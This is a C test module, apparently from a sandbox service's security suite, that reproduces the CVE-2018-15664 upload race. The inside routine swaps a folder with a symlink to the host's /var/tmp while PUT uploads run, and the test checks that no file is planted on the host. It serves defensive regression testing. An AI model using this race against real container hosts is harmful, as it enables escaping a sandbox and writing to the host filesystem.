/*
 * upload-race: a folder that becomes a link, and a folder again, while something is being uploaded into it
 * (CVE-2018-15664): it is written inside, as whoever the sandbox is, or not at all.
 */
#include "attack/attack.h"
#include "attack/tenant.h"
#include "attack/work.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { MS = 500, EXCHANGE = 2 };

static void inside(struct attempt *attempt)
{
    (void)attempt;
    ignore_result(mkdir("folder", 0755));
    ignore_result(symlink("/proc/1/root/var/tmp", "other"));
    tenant_say_ready();
    for (;;)
        ignore_result(syscall(SYS_renameat2, AT_FDCWD, "folder", AT_FDCWD, "other", EXCHANGE));
}

static void calls(struct attempt *attempt)
{
    struct tenant tenant;
    char path[TENANT_PATH_SIZE];
    unsigned written = 0;
    unsigned refused = 0;
    unsigned other = 0;

    if (!tenant_move_in(&tenant, attempt, caller_key(), NULL))
        return;
    if (tenant_start_inside(&tenant, attempt, "upload-race")) {
        uint64_t deadline_ns = work_deadline_ns(MS);
        struct ask ask = {.method = "PUT",
                          .path = tenant_path(&tenant, "/files/folder/planted", path),
                          .key = caller_key(),
                          .headers = "Content-Type: text/plain\r\n",
                          .body = "planted"};
        while (work_goes_on(deadline_ns)) {
            int status = caller_ask(&ask, NULL);
            written += status == 200 ? 1 : 0;
            refused += status == 403 || status == 404 || status == 400 || status == 409 ? 1 : 0;
            other += status == 0 || status >= 500 ? 1 : 0;
        }
        attempt_say(attempt, "an upload", other == 0, "%u of %u had no good answer", other, other + written + refused);
        attempt_say(attempt, "winning the race", written > 0 && refused > 0, "it was not one: %u written, %u refused",
                    written, refused);
        attempt_say(attempt, "a file of the host's", access("/var/tmp/planted", F_OK) < 0, "it is there");
    }
    tenant_move_out(&tenant);
}

const struct attack attack_upload_race = {
    .name = "upload-race",
    .tries = "a folder that becomes a link during an upload",
    .group = ATTACK_TRANSFERS,
    .calls = calls,
    .inside = inside,
};
